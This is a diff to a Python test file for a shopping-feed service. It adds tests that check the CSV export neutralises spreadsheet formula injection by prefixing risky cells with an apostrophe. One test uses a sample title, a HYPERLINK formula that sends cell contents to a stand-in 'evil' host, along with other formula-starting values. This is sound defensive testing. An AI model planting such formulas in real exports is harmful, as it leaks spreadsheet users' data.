@@ -25,7 +25,7 @@ from support import ORIGIN, settings_for
 
 TOKEN = "feed-token-0123456789abcdef"
 G = "{http://base.google.com/ns/1.0}"
-API_KEY = "secret-key"
+API_KEY = "secret-key-0123456789"
 
 
 def item(item_id: str, price: Any = "12.34", **extra: Any) -> dict[str, Any]:
@@ -146,6 +146,23 @@ async def test_the_csv_feed_has_remarketys_columns(backend):  # both backends
          "product_type": "", "google_product_category": ""}]
 
 
+async def test_a_claimed_title_is_no_formula_in_the_csv(tmp_path):
+    """A page claimed the title ``=HYPERLINK("http://evil/?"&A1,"x")``: it was written raw,
+    and a spreadsheet opening products.csv ran it. Now every such cell starts with a '."""
+    evil = '=HYPERLINK("http://evil/?"&A1,"x")'
+    async with Feed(tmp_path) as client:
+        await browser(client, {"event": "view_item", "event_id": str(uuid.uuid4()),
+                               "ecommerce": {"currency": "USD", "items": [
+                                   item("@SUM(1+1)*cmd", item_name=evil, item_brand="+1",
+                                        item_category="-2", description="=1+1")]}})
+        answer = await client.get(f"/feeds/shop1/products.csv?token={TOKEN}")
+    assert answer.status_code == 200, answer.text
+    [row] = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"), newline="")))
+    assert (row["id"], row["title"], row["brand"], row["product_type"], row["description"]) == (
+        "'@SUM(1+1)*cmd", "'" + evil, "'+1", "'-2", "'=1+1")
+    assert row["link"] == "https://shop.example/p/@SUM(1+1)*cmd"
+
+
 async def test_products_without_a_link_or_image_and_deleted_ones_are_left_out(backend):  # both backends
     async with Feed(backend) as client:
         await backend_api(client, update(item("OK"), {**item("NO-URL"), "item_url": None},
@@ -258,9 +275,34 @@ def test_any_text_makes_a_feed_that_parses_back(title, description, brand, categ
     assert got["price"] == "12.34 EUR"
     line = feeds._csv_line(feeds.csv_row(row))
     [parsed] = list(csv.reader(io.StringIO(line, newline="")))
-    assert parsed[0] == "A&<1>" and parsed[2] == feeds.clean(row["title"])
-    assert parsed[10].split("|") == ([feeds.clean(c.replace("|", "/")) for c in categories]
-                                     if categories else [""])
+    assert parsed[0] == "A&<1>" and parsed[2] == unformula(feeds.clean(row["title"]))
+    assert parsed[10] == unformula("|".join(feeds.clean(c.replace("|", "/")) for c in categories))
+    # No cell opens as a spreadsheet formula; a cell that would have starts with a ' instead.
+    assert not any(cell.startswith(FORMULA) for cell in parsed), parsed
+
+
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+def unformula(text: str) -> str:
+    """What the CSV must hold for ``text``: a leading ' before a formula's first character."""
+    return "'" + text if text.startswith(FORMULA) else text
+
+
+@settings(max_examples=300, deadline=None)
+@given(start=st.sampled_from(FORMULA + ("'", " ", "a", "")), text=TEXT)
+def test_no_csv_cell_opens_as_a_formula(start, text):
+    value = start + text or "x"
+    row = {"item_id": value, "title": value, "description": value,
+           "item_url": "https://shop.example/p", "image_url": "https://shop.example/i",
+           "price_minor": 1, "currency": "EUR", "availability": None, "brand": value,
+           "categories": [value], "google_product_category": value, "item_group_id": value,
+           "sku": value}
+    [parsed] = list(csv.reader(io.StringIO(feeds._csv_line(feeds.csv_row(row)), newline="")))
+    assert not any(cell.startswith(FORMULA) for cell in parsed), parsed
+    expected = unformula(feeds.clean(value))
+    assert parsed[:4] + parsed[6:7] + parsed[9:10] + parsed[11:] == [expected] * 7
+    assert parsed[10] == unformula(feeds.clean(value.replace("|", "/")))
 
 
 @settings(max_examples=300, deadline=None)
